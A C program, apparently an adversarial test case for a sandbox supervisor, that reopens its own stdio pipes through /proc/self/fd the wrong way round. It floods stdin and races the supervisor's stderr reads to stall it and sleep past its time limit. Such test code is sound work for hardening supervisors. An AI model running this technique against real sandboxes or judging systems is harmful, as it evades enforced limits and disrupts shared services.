// Attack: reopen our own stdio through /proc/self/fd the wrong way round — the read ends of
// stdout and stderr, the write end of stdin — to stall the supervisor. It polls both output
// pipes and then reads the ready ones in turn; a byte it was told about on stderr but that we
// took back (while it read stdout) leaves it blocked in read(), enforcing no limit. Writing
// into stdin fills the pipe whoever feeds us writes into. Prints what each reopen gave; then,
// if it could, plays that race until the supervisor stops reading, and sleeps past any limit.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <time.h>
#include <unistd.h>

static const char *outcome(int fd, int err) {
    if (fd >= 0)
        return "REOPENED";
    switch (err) {
    case EACCES: return "EACCES";
    case ENXIO: return "ENXIO";
    case EPERM: return "EPERM";
    case ENOENT: return "ENOENT";
    default: return strerror(err);
    }
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

// Whether the supervisor empties our stdout (watched through its reopened read end) within
// `seconds`.
static int drained(int out, double seconds) {
    double start = now();
    do {
        int queued;
        if (ioctl(out, FIONREAD, &queued) == 0 && queued == 0)
            return 1;
    } while (now() - start < seconds);
    return 0;
}

int main(void) {
    const struct { const char *name; const char *path; int flags; } tries[] = {
        {"stdout-read", "/proc/self/fd/1", O_RDONLY},
        {"stderr-read", "/proc/self/fd/2", O_RDONLY},
        {"stdin-write", "/proc/self/fd/0", O_WRONLY},
    };
    int fds[3];
    for (int i = 0; i < 3; i++) {
        fds[i] = open(tries[i].path, tries[i].flags | O_NONBLOCK | O_CLOEXEC);
        printf("%s %s\n", tries[i].name, outcome(fds[i], errno));
    }
    fflush(stdout);
    char buf[4096];
    if (fds[2] >= 0) {
        memset(buf, 'i', sizeof buf);
        while (write(fds[2], buf, sizeof buf) > 0) {
        }
    }
    if (fds[0] >= 0 && fds[1] >= 0 && drained(fds[0], 1.0)) {
        double start = now();
        while (now() - start < 2.0) {
            // One byte on each: the supervisor's poll sees both, it reads stdout first; the
            // moment stdout is empty we take the stderr byte back from under it.
            write(2, "x", 1);
            write(1, "y", 1);
            if (!drained(fds[0], 0.3))
                break; // it no longer reads: stalled in read(stderr)
            read(fds[1], buf, sizeof buf);
            write(1, "p", 1);
            if (!drained(fds[0], 0.3))
                break;
        }
    }
    sleep(10);
    return 0;
}
